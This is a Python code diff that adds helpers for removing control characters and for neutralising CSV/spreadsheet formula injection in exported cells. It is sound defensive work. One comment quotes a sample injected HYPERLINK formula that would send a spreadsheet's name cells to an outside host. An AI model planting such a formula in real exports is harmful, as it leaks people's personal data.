@@ -92,3 +92,32 @@ def quantity(amount: Decimal, unit: str) -> str:
     if forms is None:
         return f"{number} {unit}"
     return f"{number} {forms[plural_form(int(amount)) if whole else 1]}"
+
+
+# Control characters a keyboard never types: NUL, ESC and the rest of C0 and C1 except tab and
+# line breaks. They reach the store only by paste or import, and break exports (XLSX refuses
+# them), so every value is cleaned before it is written (store.uow) or exported.
+_CONTROLS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
+
+
+def without_controls(text: str) -> str:
+    """`text` without control characters; CR LF and a lone CR become LF."""
+    return _CONTROLS.sub("", text.replace("\r\n", "\n").replace("\r", "\n"))
+
+
+# A cell that starts with one of these is a formula to a spreadsheet program (CSV injection,
+# OWASP): `=HYPERLINK("http://…?leak="&A2, …)` would send the person's name cells away.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(value: str) -> str:
+    """A text cell as SocDesk writes it to CSV or XLSX: a value a spreadsheet would run as a
+    formula gets a leading apostrophe, which shows it as text (OWASP's neutralisation)."""
+    return "'" + value if value.startswith(_FORMULA_STARTS) else value
+
+
+def from_spreadsheet(value: str) -> str:
+    """A text cell as SocDesk reads it back: the apostrophe `spreadsheet_safe` added goes."""
+    if value.startswith("'") and value[1:].startswith(_FORMULA_STARTS):
+        return value[1:]
+    return value
